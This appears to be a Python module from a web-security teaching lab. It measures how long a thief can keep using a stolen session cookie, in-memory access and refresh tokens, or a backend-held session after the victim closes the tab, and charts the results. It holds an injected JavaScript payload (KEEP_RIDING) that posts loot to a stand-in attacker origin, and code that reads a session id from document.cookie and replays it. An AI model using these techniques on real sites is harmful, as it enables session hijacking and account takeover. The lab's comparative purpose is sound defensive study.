"""The victim closes the tab. For how many seconds does the thief get on?"""

from __future__ import annotations

import time
from collections.abc import Callable, Mapping
from typing import TYPE_CHECKING

from labserver.kit.browser.people import log_in_at_app, log_in_at_bff, log_in_at_site
from labserver.kit.browser.script import READABLE, Thief, plant, tokens_in
from labserver.kit.browser.web import EVIL, Web
from labserver.kit.display.chart import bars, units
from labserver.kit.display.plot import Plot
from labserver.kit.lab import Lab
from labserver.kit.processes.control_client import span

if TYPE_CHECKING:
    from matplotlib.axes import Axes

DAY, HOUR, MINUTE = 86_400, 3_600, 60
LONGEST = 30 * DAY
TICK = 0.05
"""Seconds between two requests of a script that rides; what it did after the tab was closed is counted."""

KEEP_RIDING = """setInterval(async () => {
  const ridden = (await real("../FLOW/me")).status;
  real("EVIL/loot", { method: "POST", mode: "no-cors", body: JSON.stringify({ seen: [], ridden }) });
}, MS)"""


def refused_after(lab: Lab, works: Callable[[], bool], step: int, gone: int = 0) -> int:
    """Move the clock to the next whole number of steps until the thief is refused; returns the seconds.

    `gone` seconds have passed since the theft.
    """
    while works() and gone < LONGEST:
        ahead = step - gone % step
        lab.clock.advance(seconds=ahead)
        gone += ahead
    return gone


def seconds_left(web: Web) -> dict[str, int]:
    """Steal in four ways, close the tab, and find how long each helps: {what: seconds}."""
    return {
        "session, ridden": _ridden(web, "session"),
        "session id, carried off": _carried_off(web),
        **_tokens(web),
    }


def bff_seconds_left(web: Web) -> dict[str, int]:
    """Ride on the backend's session, close the tab, and find how long that helps."""
    return {"BFF, ridden": _ridden(web, "bff")}


def _ridden(web: Web, flow: str) -> int:
    """Let a script in the page send requests; close the tab; count those that still come."""
    lab, thief = plant(web), Thief(web)
    tab = log_in_at_bff(web, lab) if flow == "bff" else log_in_at_site(web, lab)
    evil, pause = web.sites.origin(EVIL), str(round(TICK * 1000))
    tab.script(KEEP_RIDING.replace("EVIL", evil).replace("MS", pause).replace("FLOW", flow))
    assert "ridden" in thief.loot("ridden"), "it rides while the tab is open"  # noqa: S101
    tab.close()
    time.sleep(2 * TICK)  # what was under way
    thief.forget()
    began = time.monotonic()
    time.sleep(10 * TICK)
    return 0 if "ridden" not in thief.so_far() else round(time.monotonic() - began)


def _carried_off(web: Web) -> int:
    """Take the id out of a cookie that scripts can read, and use it often enough not to be idle."""
    lab = web.weak(READABLE)
    tab = log_in_at_site(web, lab)
    cookie = next(pair for pair in tab.script("document.cookie").split("; ") if pair.startswith("sid="))
    tab.close()
    client = lab.client("thief")
    lab.clock.hold()
    try:
        return refused_after(
            lab, lambda: client.get("/session/me", headers={"Cookie": cookie}).ok, 20 * MINUTE
        )
    finally:
        lab.reset()


def _tokens(web: Web) -> dict[str, int]:
    """Take the pair from an app that keeps it in a variable; use each of the two for itself."""
    lab, thief = plant(web), Thief(web)
    tab = log_in_at_app(web, lab, "memory")
    pair = tokens_in(thief.loot("refresh_token"))
    tab.close()
    client = lab.client("thief")
    header = {"Authorization": f"Bearer {pair['access_token']}"}
    held = {"refresh": pair["refresh_token"]}

    def renews() -> bool:
        answer = client.post("/token/refresh", json={"refresh_token": held["refresh"]})
        held["refresh"] = answer.json().get("refresh_token", "")
        return answer.ok

    lab.clock.hold()
    try:
        access = refused_after(lab, lambda: client.get("/token/me", headers=header).ok, MINUTE)
        return {
            "access token, carried off": access,
            "refresh token, carried off": refused_after(lab, renews, DAY, access),
        }
    finally:
        lab.reset()


def chart(found: Mapping[str, int], title: str) -> Plot:
    """Draw what `seconds_left` found: one bar for each theft, time on a logarithmic axis that begins at 0."""
    names, seconds = list(found), list(found.values())
    tones = ["session" if name.startswith(("session", "BFF")) else "token" for name in names]
    texts = [in_words(value) for value in seconds]

    def draw(axes: Axes) -> None:
        axes.set_xscale("symlog", linthresh=MINUTE)
        axes.set_xlim(0, LONGEST)
        bars(axes, names, seconds, tones, texts)
        axes.set_xticks((0, MINUTE, HOUR, DAY), ["0", "1 min", "1 h", "1 d"])
        axes.set_xticks([], minor=True)
        units(axes)

    rows = [[name, value, text] for name, value, text in zip(names, seconds, texts, strict=True)]
    about = "Found by moving the server's clock after the tab was closed. The axis is logarithmic."
    return Plot(
        title,
        ["what the thief has", "seconds", "in words"],
        rows,
        draw,
        about=about,
        height=70 + 44 * len(rows),
    )


def in_words(seconds: int) -> str:
    """Say how long a theft helps."""
    return span(seconds) if seconds else "0: over with the tab"
